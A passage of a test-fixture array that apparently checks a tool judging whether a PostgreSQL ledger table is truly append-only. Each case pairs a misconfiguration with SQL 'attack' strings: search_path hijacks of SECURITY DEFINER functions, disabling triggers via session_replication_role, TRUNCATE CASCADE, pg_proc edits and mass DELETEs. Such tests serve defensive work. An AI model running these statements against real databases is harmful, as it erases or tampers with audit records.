    ALTER TABLE ledger.events ALTER COLUMN occurred_at TYPE timestamp, ALTER COLUMN occurred_at SET DEFAULT (now() AT TIME ZONE 'utc');`,
    role: 'writer',
    attack: `SET TimeZone = '<UTC>-167'; INSERT INTO ledger.events (event_type, payload) VALUES ('expense_written', '{}')`,
    proof: FAR_OFF,
  },
  {
    title: 'time of a zone in a timestamptz, which the session turns back by its own zone',
    verdict: 'nominal',
    script: `
    ALTER TABLE ledger.events ALTER COLUMN occurred_at SET DEFAULT (now() AT TIME ZONE 'utc');`,
    role: 'writer',
    attack: `SET TimeZone = '<far>-167'; INSERT INTO ledger.events (event_type, payload) VALUES ('expense_written', '{}')`,
    proof: FAR_OFF,
  },
  {
    title: 'definer trigger function that anybody puts behind a table of its own',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE FUNCTION ledger.sweep() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN DELETE FROM ledger.events; RETURN NULL; END $$; ${owned('ledger.sweep()')}`,
    attack: `CREATE TEMP TABLE t (i int); CREATE TRIGGER t AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION ledger.sweep(); INSERT INTO t VALUES (1); DISCARD TEMP`,
    proof: GONE,
  },
  {
    title: 'definer trigger function that nobody may EXECUTE',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE FUNCTION ledger.sweep() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN DELETE FROM ledger.events; RETURN NULL; END $$; ${owned('ledger.sweep()')} REVOKE EXECUTE ON FUNCTION ledger.sweep() FROM PUBLIC;`,
    attack: `CREATE TEMP TABLE t (i int); CREATE TRIGGER t AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION ledger.sweep(); INSERT INTO t VALUES (1); DISCARD TEMP`,
    proof: GONE,
  },
  {
    title: 'definer empties a table CASCADE that the events refer to',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE TABLE public.runs (id int PRIMARY KEY); INSERT INTO public.runs VALUES (1); ALTER TABLE public.runs OWNER TO ledger_owner; GRANT USAGE ON SCHEMA public TO ledger_owner;
    ALTER TABLE ledger.events ADD COLUMN run int DEFAULT 1 REFERENCES public.runs;
    CREATE FUNCTION public.reset() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN TRUNCATE public.runs CASCADE; END $$; ${owned('public.reset()')}`,
    attack: 'SELECT public.reset()',
    proof: GONE,
  },
  {
    title: 'definer empties a table CASCADE, two foreign keys away from the events',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE TABLE public.orgs (id int PRIMARY KEY); INSERT INTO public.orgs VALUES (1); CREATE TABLE public.runs (id int PRIMARY KEY, org int REFERENCES public.orgs); INSERT INTO public.runs VALUES (1, 1);
    ALTER TABLE public.orgs OWNER TO ledger_owner; ALTER TABLE public.runs OWNER TO ledger_owner; GRANT USAGE ON SCHEMA public TO ledger_owner; ALTER TABLE ledger.events ADD COLUMN run int DEFAULT 1 REFERENCES public.runs;
    CREATE FUNCTION public.reset() RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ TRUNCATE public.orgs CASCADE $$; ${owned('public.reset()')}`,
    attack: 'SELECT public.reset()',
    proof: GONE,
  },
  {
    title: 'definer empties a table that the events refer to, without CASCADE',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE TABLE public.runs (id int PRIMARY KEY); INSERT INTO public.runs VALUES (1); ALTER TABLE public.runs OWNER TO ledger_owner; GRANT USAGE ON SCHEMA public TO ledger_owner;
    ALTER TABLE ledger.events ADD COLUMN run int DEFAULT 1 REFERENCES public.runs;
    CREATE FUNCTION public.reset() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN TRUNCATE public.runs; END $$; ${owned('public.reset()')}`,
    attack: 'SELECT public.reset()',
    proof: GONE,
  },
  {
    title: 'definer whose search_path starts with "$user", and a login that makes a schema of that name',
    verdict: 'nominal',
    script: `
    DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO app', current_database()); END $$;
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = "$user", pg_catalog, pg_temp AS $$ BEGIN IF kind = 'x' THEN RETURN; END IF; END $$; ${owned('public.append(text)')}`,
    attack: `CREATE SCHEMA ledger_owner; GRANT USAGE ON SCHEMA ledger_owner TO PUBLIC; CREATE FUNCTION ledger_owner.eq(text, text) ${harm('boolean', 'true')}; CREATE OPERATOR ledger_owner.= (LEFTARG = text, RIGHTARG = text, FUNCTION = ledger_owner.eq); SELECT public.append('y'::text)`,
    proof: REPLACED,
  },
  {
    title: 'definer whose search_path names a schema that is not there, and a login that makes it',
    verdict: 'nominal',
    script: `
    DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO app', current_database()); END $$;
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = tools, pg_catalog, pg_temp AS $$ BEGIN IF kind = 'x' THEN RETURN; END IF; END $$; ${owned('public.append(text)')}`,
    attack: `CREATE SCHEMA tools; GRANT USAGE ON SCHEMA tools TO PUBLIC; CREATE FUNCTION tools.eq(text, text) ${harm('boolean', 'true')}; CREATE OPERATOR tools.= (LEFTARG = text, RIGHTARG = text, FUNCTION = tools.eq); SELECT public.append('y'::text)`,
    proof: REPLACED,
  },
  {
    title: 'definer whose search_path names a schema that is not there, and nobody makes schemas',
    verdict: 'append-only',
    script: `
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = tools, pg_catalog, pg_temp AS $$ BEGIN IF kind = 'x' THEN RETURN; END IF; END $$; ${owned('public.append(text)')}`,
    attack: `CREATE SCHEMA tools; GRANT USAGE ON SCHEMA tools TO PUBLIC; CREATE FUNCTION tools.eq(text, text) ${harm('boolean', 'true')}; CREATE OPERATOR tools.= (LEFTARG = text, RIGHTARG = text, FUNCTION = tools.eq); SELECT public.append('y'::text)`,
    proof: REPLACED,
  },
  {
    title: 'definer of a superuser sets whatever setting its caller names',
    verdict: 'nominal',
    guards: 'origin',
    script: `
    CREATE FUNCTION public.context(k text, v text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN PERFORM set_config(k, v, false); END $$; GRANT DELETE ON ledger.events TO app;`,
    attack: `SELECT public.context('session_replication_role', 'replica'); DELETE FROM ledger.events`,
    proof: GONE,
  },
  {
    title: 'definer of an ordinary owner sets whatever setting its caller names',
    verdict: 'append-only',
    guards: 'origin',
    script: `
    CREATE FUNCTION public.context(k text, v text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN PERFORM set_config(k, v, false); END $$; ${owned('public.context(text, text)')} GRANT DELETE ON ledger.events TO app;`,
    attack: `SELECT public.context('session_replication_role', 'replica'); DELETE FROM ledger.events`,
    proof: GONE,
  },
  {
    title: 'guard that is SECURITY DEFINER and asks for current_user, which is its owner',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE FUNCTION ledger.guard() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN IF current_user <> 'ledger_owner' THEN RAISE EXCEPTION 'no'; END IF; RETURN OLD; END $$; ${owned('ledger.guard()')}
    CREATE TRIGGER g BEFORE DELETE ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.guard(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER g; GRANT DELETE ON ledger.events TO app;`,
    attack: 'DELETE FROM ledger.events',
    proof: GONE,
  },
  {
    title: 'guard without RETURN, which PostgreSQL refuses',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE FUNCTION ledger.guard() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN IF TG_OP = 'INSERT' THEN RETURN NEW; END IF; END $$; ${owned('ledger.guard()')}
    CREATE TRIGGER g BEFORE DELETE ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.guard(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER g; GRANT DELETE ON ledger.events TO app;`,
    attack: 'DELETE FROM ledger.events',
    proof: GONE,
  },
  {
    title: 'guard by a CASE that has no branch for it',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE FUNCTION ledger.guard() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN CASE TG_OP WHEN 'INSERT' THEN RETURN NEW; END CASE; END $$; ${owned('ledger.guard()')}
    CREATE TRIGGER g BEFORE DELETE ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.guard(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER g; GRANT DELETE ON ledger.events TO app;`,
    attack: 'DELETE FROM ledger.events',
    proof: GONE,
  },
  {
    title: "definer of a superuser writes a table of PostgreSQL's own",
    verdict: 'unproven',
    script: `
    CREATE FUNCTION public.lend() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN
      UPDATE pg_catalog.pg_proc SET proowner = (SELECT oid FROM pg_roles WHERE rolname = 'app') WHERE proname = 'refuse_change'; END $$;`,
    attack: 'SELECT public.lend()',
    proof: `SELECT pg_get_userbyid(proowner) = 'app' FROM pg_proc WHERE oid = 'ledger.refuse_change'::regproc`,
  },
  {
    title: "definer of an ordinary owner would write a table of PostgreSQL's own",
    verdict: 'append-only',
    script: `
    CREATE FUNCTION public.lend() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN
      UPDATE pg_catalog.pg_proc SET proowner = (SELECT oid FROM pg_roles WHERE rolname = 'app') WHERE proname = 'refuse_change'; END $$; ${owned('public.lend()')}`,
    attack: 'SELECT public.lend()',
    proof: `SELECT pg_get_userbyid(proowner) = 'app' FROM pg_proc WHERE oid = 'ledger.refuse_change'::regproc`,
  },
  {
    title: 'a view over a view over a table whose trigger deletes',
    verdict: 'nominal',
    guards: 'none',
    script: `
    ${TRAPPED} CREATE VIEW public.inner_jobs AS SELECT n FROM ledger.jobs; CREATE VIEW public.outer_jobs AS SELECT n FROM public.inner_jobs;
    ALTER VIEW public.inner_jobs OWNER TO ledger_owner; ALTER VIEW public.outer_jobs OWNER TO ledger_owner; GRANT INSERT ON public.outer_jobs TO app;`,
    attack: 'INSERT INTO public.outer_jobs VALUES (1)',
    proof: GONE,
  },
  {
    title: 'a view over a table whose trigger deletes, whose owner may not write the table',
    verdict: 'append-only',
    guards: 'none',
    script: `
    ${TRAPPED} CREATE VIEW public.my_jobs AS SELECT n FROM ledger.jobs; ALTER VIEW public.my_jobs OWNER TO app_group; GRANT INSERT ON public.my_jobs TO app;`,
    attack: 'INSERT INTO public.my_jobs VALUES (1)',
    proof: GONE,
  },
  {
    title: 'TRIGGER on a table that a definer function writes',
    verdict: 'nominal',
    guards: 'none',
    script: inbox('TRIGGER'),
    attack: HIDE_IN_INBOX,
    proof: GONE,
  },
  {
    title: 'SELECT and REFERENCES on a table that a definer function writes',
    verdict: 'append-only',
    guards: 'none',
    script: inbox('SELECT, REFERENCES'),
    attack: HIDE_IN_INBOX,
    proof: GONE,
  },
  {
    title: 'AFTER UPDATE guard, and a row that moves to another partition',
    verdict: 'unproven',
    guards: 'none',
    script: `
    DROP TABLE ledger.events; SET ROLE ledger_owner;
    CREATE TABLE ledger.events (region text NOT NULL DEFAULT 'a', event_type text NOT NULL, payload jsonb NOT NULL) PARTITION BY LIST (region);
    CREATE TABLE ledger.events_a PARTITION OF ledger.events FOR VALUES IN ('a'); CREATE TABLE ledger.events_b PARTITION OF ledger.events FOR VALUES IN ('b');
    CREATE TRIGGER u AFTER UPDATE ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER u;
    GRANT INSERT (event_type, payload) ON ledger.events TO writer; GRANT SELECT, UPDATE ON ledger.events TO app; RESET ROLE;
    INSERT INTO ledger.events (event_type, payload) VALUES ('claimed_transaction', '{}');`,
    attack: `UPDATE ledger.events SET region = 'b', payload = '{"x":1}'`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE region = 'b')`,
  },
  {
    title: 'AFTER UPDATE OR DELETE guard, which stops a row that moves to another partition',
    verdict: 'append-only',
    guards: 'none',
    script: `
    DROP TABLE ledger.events; SET ROLE ledger_owner;
    CREATE TABLE ledger.events (region text NOT NULL DEFAULT 'a', event_type text NOT NULL, payload jsonb NOT NULL) PARTITION BY LIST (region);
    CREATE TABLE ledger.events_a PARTITION OF ledger.events FOR VALUES IN ('a'); CREATE TABLE ledger.events_b PARTITION OF ledger.events FOR VALUES IN ('b');
    CREATE TRIGGER u AFTER UPDATE OR DELETE ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER u;
    GRANT INSERT (event_type, payload) ON ledger.events TO writer; GRANT SELECT, UPDATE ON ledger.events TO app; RESET ROLE;
    INSERT INTO ledger.events (event_type, payload) VALUES ('claimed_transaction', '{}');`,
    attack: `UPDATE ledger.events SET region = 'b', payload = '{"x":1}'`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE region = 'b')`,
  },
];
